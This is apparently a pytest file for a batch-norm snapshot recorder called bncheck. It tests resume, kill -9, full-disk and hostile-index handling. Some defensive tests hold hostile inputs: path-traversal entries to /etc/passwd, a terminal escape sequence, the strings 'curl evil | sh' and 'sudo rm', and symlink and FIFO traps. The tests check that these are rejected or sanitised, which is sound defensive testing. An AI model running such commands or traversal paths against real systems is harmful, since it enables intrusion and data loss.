"""A record on disk: thinned, resumed, killed, damaged, on a full disk, and a stranger's."""

from __future__ import annotations

import copy
import itertools
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import safetensors.torch
import torch

import bncheck
from bncheck.cli import run
from bncheck.core.errors import BncheckError
from bncheck.reading import record, record_snapshot
from bncheck.reading.opening import open_checkpoint
from bncheck.reading.record import read_record
from bncheck.recording import Recorder
from bncheck.recording.thinning import superfluous
from tests.networks import SAMPLES
from tests.recording.training import Training, batch, net


def steps_in(folder: Path) -> list[int]:
    return [entry.step for entry in read_record(folder).entries]


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("records") / "sound"
    Training(steps=100).run(folder, every=20)
    return folder


def test_a_snapshot_is_the_model_s_own_tensors(tmp_path: Path) -> None:
    training = Training(steps=20).run(tmp_path, every=20)
    (_, file) = sorted((tmp_path / "snapshots").iterdir())
    held = safetensors.torch.load_file(file)
    state = {k: v for k, v in training.model.state_dict().items() if k in held}
    assert sorted(held) == sorted(state)
    assert len(state) == 10
    assert all(torch.equal(held[name], state[name]) for name in held)


def test_inspect_takes_the_newest(sound: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["inspect", str(sound), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["checkpoint"]["container"] == "record"
    assert report["assumptions"]["momentum"] == {"value": 0.1, "source": "file"}
    assert [layer["num_batches_tracked"] for layer in report["layers"]] == [100, 100]


def test_thinning_leaves_gaps_that_grow_with_age(tmp_path: Path) -> None:
    Training(steps=100).run(tmp_path, every=1, keep=20)
    steps = steps_in(tmp_path)
    assert len(steps) <= 20
    assert (steps[0], steps[-2:]) == (1, [99, 100])
    gaps = [after - before for before, after in itertools.pairwise(steps)]
    assert gaps[-1] == 1
    assert max(gaps[: len(gaps) // 2]) > 3 * max(gaps[-4:])
    assert len(list((tmp_path / "snapshots").iterdir())) == len(steps)
    assert bncheck.drift([tmp_path]).findings == ()


def test_steps_with_findings_stay() -> None:
    gone = superfluous(range(100), 10, {37})
    assert 37 not in gone
    assert {0, 98, 99}.isdisjoint(gone)
    assert 100 - len(gone) <= 10


def test_a_training_that_is_resumed_goes_on(tmp_path: Path) -> None:
    """From the checkpoint of step 60, though the record knows step 100 already."""
    checkpoints = {}

    def save(training: Training, step: int, x: object) -> None:
        checkpoints[step - 1] = copy.deepcopy(training.model.state_dict())

    Training(steps=100, hook=save).run(tmp_path)
    again = Training(steps=60, seed=1)
    again.model.load_state_dict(checkpoints[60])
    again.run(tmp_path)
    held = read_record(tmp_path)
    assert [e.step for e in held.entries] == [1, 20, 40, 60, 61, 80, 100, 120]
    assert (held.runs, held.trainings, again.found) == (2, 1, [])
    report = bncheck.drift([tmp_path])
    assert (report.findings, report.notes) == ((), ())


def test_buffers_that_a_resume_loses_are_found_at_its_first_step(tmp_path: Path) -> None:
    first = Training(steps=200).run(tmp_path)
    weights = {name: p for name, p in first.model.state_dict().items() if "running" not in name
               and "num_batches" not in name}  # fmt: skip
    again = Training(steps=40, seed=1)
    again.model.load_state_dict(weights, strict=False)
    again.run(tmp_path)
    assert {f.rule for f in again.found} == {"BN305"}
    assert {f.evidence["step"] for f in again.found} == {201}
    assert {f.rule for f in bncheck.drift([tmp_path]).findings} == {"BN305"}


class Held(torch.nn.Module):
    """As a LightningModule holds it: all names begin with `net.`."""

    def __init__(self) -> None:
        super().__init__()
        self.net = net()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.net(x)  # type: ignore[no-any-return]


@pytest.mark.parametrize("lost", [False, True])
def test_a_model_whose_names_begin_alike_is_resumed_as_any_other(
    tmp_path: Path, lost: bool
) -> None:
    torch.manual_seed(0)
    first = Training(Held(), steps=200).run(tmp_path)
    again = Training(Held(), steps=40, seed=1)
    state = first.model.state_dict()
    kept = {k: v for k, v in state.items() if not lost or k.endswith(("weight", "bias"))}
    again.model.load_state_dict(kept, strict=False)
    again.run(tmp_path)
    held = read_record(tmp_path)
    assert (held.runs, held.trainings) == (2, 1)
    assert [entry.step for entry in held.entries][-1] == 240
    assert {f.rule for f in again.found} == ({"BN305"} if lost else set())


def test_another_training_in_the_folder_is_told_apart(tmp_path: Path) -> None:
    Training(steps=100).run(tmp_path)
    Training(net(), steps=40, seed=7).run(tmp_path)
    assert steps_in(tmp_path) == [1, 20, 40]
    report = bncheck.drift([tmp_path])
    assert any("holds 2 trainings" in note for note in report.notes)


def test_a_killed_training_leaves_a_record_that_goes_on(tmp_path: Path) -> None:
    """kill -9 in the midst of writing; the last line may be cut, and a file may be left over."""
    code = (
        "from pathlib import Path; from tests.recording.training import Training; "
        f"Training(steps=10**9).run(Path({str(tmp_path)!r}), every=1, keep=50)"
    )
    environment = {**os.environ, "PYTHONPATH": str(SAMPLES.parent)}
    process = subprocess.Popen([sys.executable, "-c", code], env=environment)
    index = tmp_path / "index.jsonl"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (index.exists() and index.stat().st_size > 3_000):
        time.sleep(0.05)
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    before = steps_in(tmp_path)
    assert len(before) > 2
    bncheck.drift([tmp_path])
    with open(index, "ab") as file:
        file.write(b'{"kind":"snapshot","st')
    (tmp_path / "snapshots" / "0-99999999.safetensors").write_bytes(b"half")
    assert steps_in(tmp_path) == before
    again = Training(steps=30)
    path = read_record(tmp_path).file(read_record(tmp_path).entries[-1])
    again.model.load_state_dict(safetensors.torch.load_file(path), strict=False)
    again.run(tmp_path, every=10)
    assert steps_in(tmp_path)[-1] == before[-1] + 30
    assert not list((tmp_path / "snapshots").glob("*99999999*"))
    assert not [f for f in (tmp_path / "snapshots").iterdir() if f.name.startswith(".")]


def test_a_folder_that_vanishes_is_one_warning(tmp_path: Path, logged: list[str]) -> None:
    def vanish(training: Training, step: int, x: object) -> None:
        if step == 30:
            shutil.rmtree(tmp_path / "run")

    training = Training(steps=100, hook=vanish).run(tmp_path / "run")
    (said,) = logged
    assert "not recorded" in said
    assert "the training goes on" in said
    assert training.found == []


def test_a_full_disk_is_one_warning_and_the_record_stays_whole(
    tmp_path: Path, logged: list[str]
) -> None:
    """The limit of a file's size stands for the disk: the index takes no more than 1,000 bytes."""
    import resource

    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1000, limits[1]))
    try:
        Training(steps=100).run(tmp_path, every=10)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
        signal.signal(signal.SIGXFSZ, handler)
    (said,) = logged
    assert "the training goes on" in said
    assert all(file.stat().st_size <= 1000 for file in tmp_path.rglob("*") if file.is_file())
    index = (tmp_path / "index.jsonl").read_bytes()
    assert index.endswith(b"\n")


def test_a_model_without_layers_and_a_folder_that_is_a_file(tmp_path: Path) -> None:
    with pytest.raises(BncheckError, match='layers="all"'):
        Recorder(torch.nn.Linear(2, 2), tmp_path)
    (tmp_path / "file").write_text("")
    with pytest.raises(BncheckError, match="cannot be written"):
        Recorder(net(), tmp_path / "file")
    with pytest.raises(BncheckError, match="is a str, not a torch"):
        Recorder("net", tmp_path / "run")


def line(**told: object) -> str:
    return json.dumps({"kind": "snapshot", "step": 1, "files": {"": "snapshots/x"}, **told}) + "\n"


RUN = json.dumps({"kind": "run", "schema": "bncheck.record/1"}) + "\n"
#: What a stranger's index may hold, and what is said of it.
STRANGERS = {
    "nothing": ("", "without a snapshot"),
    "no JSON": ("hello\n", "line 1 cannot be read"),
    "a list": ("[]\n", "line 1 cannot be read"),
    "no kind": ("{}\n", "line 1 cannot be read"),
    "another kind of record": ('{"kind": "run", "schema": "bncheck.record/9"}\n', "another kind"),
    "a text for a step": (RUN + line(step="x"), "line 2 cannot be read"),
    "a huge step": (RUN + line(step=1e999), "line 2 cannot be read"),
    "a list of files": (RUN + line(files=["a"]), "line 2 cannot be read"),
    "a file outside": (RUN + line(files={"": "../../etc/passwd"}), "outside its own folder"),
    "an absolute file": (RUN + line(files={"": "/etc/passwd"}), "outside its own folder"),
    "a missing file": (RUN + line(), "does not exist"),
    "deep": (RUN + "[" * 100_000 + "\n", "cannot be read"),
    "many values": (RUN + "[" + "1," * 1_100_000 + "1]\n", "limit"),
    "not UTF-8": ("\udcff\n", "line 1 cannot be read"),
}


@pytest.mark.parametrize("name", list(STRANGERS))
@pytest.mark.parametrize("command", ["inspect", "drift", "watch"])
def test_a_stranger_s_index_is_one_line(
    name: str, command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text, said = STRANGERS[name]
    (tmp_path / "index.jsonl").write_bytes(text.encode("utf-8", "surrogateescape"))
    code = run([command, str(tmp_path)])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.count("\n") == 1
    assert said in err or "snapshot" in err
    assert "Traceback" not in err
    assert "bug in bncheck" not in err


@pytest.mark.parametrize("left", [b"", b"{", b"\0" * 4096, b"\0" * 4096 + b"\n"])
def test_snapshots_of_a_lost_index_are_kept(sound: Path, tmp_path: Path, left: bytes) -> None:
    """A disk that was full or cut off: a recorder that goes on swept away what no line names."""
    folder = tmp_path / "run"
    shutil.copytree(sound, folder)
    (folder / "index.jsonl").write_bytes(left)
    for act in (lambda: Recorder(net(), folder), lambda: read_record(folder)):
        with pytest.raises(BncheckError, match="give its folder snapshots/"):
            act()
    assert len(list((folder / "snapshots").iterdir())) == 6
    assert run(["drift", str(folder / "snapshots")]) == 0


def test_a_stranger_s_metadata_and_findings_are_shown_as_text(
    sound: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copytree(sound, tmp_path / "run")
    index = tmp_path / "run" / "index.jsonl"
    evil = {"kind": "finding", "rule": "BN102", "layer": "\x1b]0;owned\x07", "step": 3,
            "severity": "error", "message": "run curl evil | sh", "fix": "sudo rm"}  # fmt: skip
    unknown = {**evil, "rule": "BN999", "layer": "x"}
    with open(index, "a") as file:
        file.write(json.dumps(evil) + "\n" + json.dumps(unknown) + "\n")
    assert run(["drift", str(tmp_path / "run")]) == 1
    out = capsys.readouterr().out
    assert "BN102" in out
    assert "\x1b" not in out
    assert "evil" not in out
    assert "sudo" not in out
    assert "BN999" not in out


def test_resuming_into_a_stranger_s_record_removes_nothing_outside(tmp_path: Path) -> None:
    victim = tmp_path / "victim.safetensors"
    victim.write_text("mine")
    training = Training(steps=100).run(tmp_path / "run", every=5, keep=30)
    index = tmp_path / "run" / "index.jsonl"
    lines = [json.loads(text) for text in index.read_text().splitlines()]
    lines[2]["files"]["other"] = "../victim.safetensors"
    index.write_text("".join(json.dumps(text) + "\n" for text in lines))
    Training(training.model, steps=30).run(tmp_path / "run", every=1, keep=5)
    assert len(steps_in(tmp_path / "run")) <= 5
    assert victim.read_text() == "mine"


@pytest.mark.parametrize("told", ["[]", '"x"', "{", '{"schema": "bncheck.snapshot/1"}',
    '{"schema": "bncheck.snapshot/1", "layers": {"1": 3, "5": {"eps": "x", "seen": []}}}',
    '{"schema": "bncheck.snapshot/1", "step": "1e400", "layers": [1]}'])  # fmt: skip
def test_a_stranger_s_snapshot_is_a_checkpoint_still(
    told: str, sound: Path, tmp_path: Path
) -> None:
    file = sorted((sound / "snapshots").iterdir())[-1]
    tensors = safetensors.torch.load_file(file)
    safetensors.torch.save_file(tensors, tmp_path / "x.safetensors", {"bncheck": told})
    assert len(bncheck.inspect(tmp_path / "x.safetensors").layers) == 2


def test_drift_with_data_says_that_a_record_has_no_weights(
    sound: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    model, data = f"{SAMPLES / 'nets.py'}:DigitNet", str(SAMPLES / "digits-train.npz")
    assert run(["drift", str(sound), "--model", model, "--data", data]) == 2
    assert "holds normalisation layers and not the weights" in capsys.readouterr().err


def test_a_gate_takes_a_record_as_checkpoint_and_as_series(
    sound: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shutil.copytree(sound, tmp_path / "run")
    monkeypatch.chdir(tmp_path)
    Path("pyproject.toml").write_text(
        '[tool.bncheck.models.net]\ncheckpoint = "run"\ndrift = "run"\n'
    )
    assert run(["gate"]) == 0


def test_many_snapshots_are_compared_by_a_choice_that_is_told(
    sound: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bncheck.series import records

    monkeypatch.setattr(records, "_MOST_NUMBERS", 0)
    monkeypatch.setattr(records, "_FEWEST", 3)
    report = bncheck.drift([sound])
    assert [s.step for s in report.movement.snapshots] == [1, 40, 100]
    assert any("comparing 3 of its 6 snapshots" in note for note in report.notes)


def test_layers_all_records_a_network_without_norms(tmp_path: Path) -> None:
    model = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(), torch.nn.Linear(16, 4))
    Training(model, steps=60).run(tmp_path, layers="all")
    report = bncheck.drift([tmp_path])
    assert report.movement.layers == ("0", "2")
    assert report.movement.grid.w2[:, 0].max() > 0.2
    assert open_checkpoint(tmp_path, "batch").training is not None
    with pytest.raises(BncheckError, match="without normalisation layers"):
        bncheck.inspect(tmp_path)


def test_its_names_are_those_of_the_docs() -> None:
    page = (SAMPLES.parent / "docs" / "recording.md").read_text()
    words = (record.SNAPSHOTS, record.INDEX, record.SCHEMA, record_snapshot.SCHEMA)
    assert all(word in page for word in words)


def test_every_epoch_records_early_in_each(tmp_path: Path) -> None:
    training = Training(steps=0)
    recorder = Recorder(training.model, tmp_path, every_epoch=True)
    generator = torch.Generator().manual_seed(0)
    for step in range(50):
        training.step(*batch(generator))
        recorder.step(epoch=step // 10)
    recorder.close()
    found = [(entry.step, entry.epoch) for entry in read_record(tmp_path).entries]
    assert found == [(1, 0), (12, 1), (22, 2), (32, 3), (42, 4), (50, 4)]


def test_a_strangers_record_leads_the_recorder_nowhere(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "100.safetensors").write_text("precious")
    begun = json.dumps({"kind": "run", "schema": record.SCHEMA, "run": 0, "continues": False})
    for name in ("snapshots", "index", "pipe"):
        (tmp_path / name).mkdir()
    (tmp_path / "snapshots" / record.INDEX).write_text(f"{begun}\n")
    (tmp_path / "snapshots" / record.SNAPSHOTS).symlink_to(mine)
    (tmp_path / "index" / record.INDEX).symlink_to(tmp_path / "made")
    os.mkfifo(tmp_path / "pipe" / record.INDEX)
    for name in ("snapshots", "index", "pipe"):
        with pytest.raises(BncheckError, match="as something else than a"):
            Recorder(net(), tmp_path / name)
    assert os.listdir(mine) == ["100.safetensors"]
    assert not (tmp_path / "made").exists()


def test_a_record_sweeps_its_own_snapshots_alone_and_skips_odd_lines(tmp_path: Path) -> None:
    begun = {"kind": "run", "schema": record.SCHEMA, "run": 0, "continues": False}
    odd = {"kind": "later", "files": 5, "run": 1e300}
    (tmp_path / "snapshots").mkdir()
    (tmp_path / record.INDEX).write_text(f"{json.dumps(begun)}\n{json.dumps(odd)}\n")
    for name in ("7weights.safetensors", "0-00000009.safetensors"):
        (tmp_path / "snapshots" / name).write_text("")
    Training(steps=2).run(tmp_path)
    names = os.listdir(tmp_path / "snapshots")
    assert "7weights.safetensors" in names
    assert "0-00000009.safetensors" not in names


def test_findings_of_a_record_have_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    lines = [
        {"kind": "run", "schema": record.SCHEMA, "continues": False},
        *[{"kind": "finding", "rule": "BN306", "step": step} for step in range(3)],
    ]
    (tmp_path / record.INDEX).write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    assert len(read_record(tmp_path).findings) == 3
    monkeypatch.setattr("bncheck.reading.record.MAX_FINDINGS", 2)
    with pytest.raises(BncheckError, match="MAX_FINDINGS"):
        read_record(tmp_path)
    assert record_snapshot.whole(1e300) is None
